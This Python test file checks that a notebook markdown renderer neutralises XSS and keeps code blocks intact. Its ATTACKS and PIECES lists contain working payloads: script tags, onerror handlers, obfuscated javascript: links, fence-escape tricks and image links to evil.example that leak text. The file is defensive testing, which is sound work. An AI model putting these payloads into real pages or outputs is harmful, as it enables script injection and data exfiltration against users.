from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from ainet.notebook.markdown import to_html

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<!-- --><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    r"[x](javascript\:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]:\njavascript:alert(1)\n\n[x]",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/?q=what-you-said)",
    "![x][y]\n\n[y]: https://evil.example/",
    "<javascript:alert(1)>",
    "```\nclosed\n```\n<script>alert(1)</script>",
    "~~~\nclosed\n~~~\n<script>alert(1)</script>",
    "```\n~~~\n```\n<script>alert(1)</script>",
    "````\n```\n````\n<script>alert(1)</script>",
    "```\n  ```\n<script>alert(1)</script>\n```",
    "```\n````  \n<script>alert(1)</script>\n```",
    "``` a`b\n<script>alert(1)</script>\n```",
    "    ```\n<script>alert(1)</script>\n    ```",
    "`x\n```\n`\n```\n<img src=x onerror=alert(1)>",
    "> ```\n<script>alert(1)</script>\n> ```",
    "- ```\n<script>alert(1)</script>\n  ```",
    '[x]: https://a "\n```\n"\n<script>alert(1)</script>\n```',
    "~~~ ```\n```\n~~~\n<script>alert(1)</script>\n```",
    "$$ a\n```\n$$\n<script>alert(1)</script>",
    "$$ a\n  ```\n$$\n<script>alert(1)</script>\n  ```",
    "  ```\n```\n$a\n```\nb$ <script>alert(1)</script>\n```",
]


class Page(HTMLParser):
    """What a reader finds in HTML: what acts (tags, addresses, event handlers), the code, and all text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.active: list[str] = []
        self.code: list[str] = []
        self.text = ""
        self._inside = 0
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        if tag in {"script", "img", "iframe", "style", "svg"} or any(name.startswith("on") for name, _ in attrs):
            self.active.append(tag)
        self.active += [value for name, value in attrs if name == "href" and not re.match("https?:|mailto:|#", value)]
        if tag == "code":
            self._inside = 1
            self.code.append("")

    def handle_endtag(self, tag):
        if tag == "code":
            self._inside = 0

    def handle_data(self, data):
        self.text += data
        if self._inside:
            self.code[-1] += data


def acts(html: str) -> bool:
    return bool(Page(html).active)


@pytest.mark.parametrize("text", ATTACKS)
def test_what_a_model_says_cannot_run_in_a_notebook(text):
    assert not acts(to_html(text))


def test_the_attacks_are_real():
    working = [text for text in ATTACKS if acts(markdown2html_mistune(text))]
    assert len(working) > 0.8 * len(ATTACKS)


PIECES = [
    "`",
    "```",
    "~~~",
    "\n",
    " ",
    "    ",
    "> ",
    "- ",
    "x",
    "|",
    "<script>",
    "<img src=x onerror=y>",
    "<a href='javascript:x'>",
    "$",
    "$$",
    "[x]",
    "](javascript:x)",
    "![",
    "(",
    ":",
]


@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_no_mixture_of_fences_formulas_and_tags_runs(pieces):
    assert not acts(to_html("".join(pieces)))


def invisible(text: str) -> int:
    return sum(unicodedata.category(letter) in ("Cf", "Cc") and letter not in "\n\t" for letter in text)


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=20).map("".join))
def test_no_invisible_character_is_added(text):
    assert invisible(Page(to_html(text)).text) <= invisible(text)


CODE = "#include <vector>\nstd::vector<int> v; // a[i](j) ![x] <b> $x$\nif a < b and c & d:\n\tprint('<b>')  \n"


@pytest.mark.parametrize(
    ("before", "between", "after"),
    [
        ("```\n", "", "```\n"),
        ("```cpp\n", "", "```\ntext <b>"),
        ("```python\n", "", ""),  # the answer was cut off
        ("~~~c++\n", "", "~~~\n"),
        ("````\n", "", "````\n"),
        ("  ```\n", "  ", "  ```\n"),
        ("- item\n\n  ```js\n", "  ", "  ```\n"),
        ("1. item\n   ```\n", "   ", "   ```\n2. more\n"),
        ("> ```\n", "> ", "> ```\n"),
        ("text\n\n", "    ", "\ntext"),
        ("```no-such-language\n", "", "```"),
        ("```html\n", "", "```"),
        ("$a\n```\n", "", "```\nb$"),
    ],
)
def test_code_is_what_was_written_to_the_last_character(before, between, after):
    text = before + "".join(between + line for line in CODE.splitlines(keepends=True)) + after
    [code] = Page(to_html(text)).code
    assert code == CODE


def test_code_within_a_line_stays_as_it_is():
    assert Page(to_html("an `vector<int>` and `` `a[i](x)` `` and `![x](y)`")).code == [
        "vector<int>",
        "`a[i](x)`",
        "![x](y)",
    ]


LANGUAGES = ["", "python", "c++", "json", "html", "sh", "sql", "nothing"]


@given(
    st.text(st.characters(exclude_characters="\r\n\0`", exclude_categories=["Cs"]), max_size=60),
    st.sampled_from(LANGUAGES),
)
def test_any_line_of_code_in_any_language_stays_as_it_is(line, language):
    assert Page(to_html(f"```{language}\n{line}\n```")).code == [f"{line}\n"]


def test_markdown_is_shown_as_markdown():
    shown = to_html(
        "# A heading\n\n- one\n- **two**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~no~~ [page](https://example.org/)"
    )
    for part in ("<h1>A heading</h1>", "<strong>two</strong>", "<td>1</td>", "<s>no</s>"):
        assert part in shown
    assert '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">page</a>' in shown


def test_tags_are_text():
    assert (
        Page(to_html("use <div> and <b>bold</b>, &lt; and 1 < 2")).text.strip()
        == "use <div> and <b>bold</b>, < and 1 < 2"
    )


def test_formulas_are_left_to_the_front_end_and_prices_are_none():
    shown = to_html("so $a_1 < b_1$ and\n\n$$\n\\sum_i x_i\n$$\n\ncosts $5 or $6, `$x$`")
    assert "<span>$a_1 &lt; b_1$</span>" in shown
    assert "<div>$$\n\\sum_i x_i\n$$</div>" in shown
    assert "costs <span>$</span>5 or <span>$</span>6" in shown


def test_code_has_the_colours_of_the_notebook():
    shown = to_html("```python\ndef f(): return 'x'\n```")
    assert '<span style="color: var(--jp-mirror-editor-keyword-color, inherit)">def</span>' in shown
    assert "var(--jp-mirror-editor-string-color, inherit)" in shown
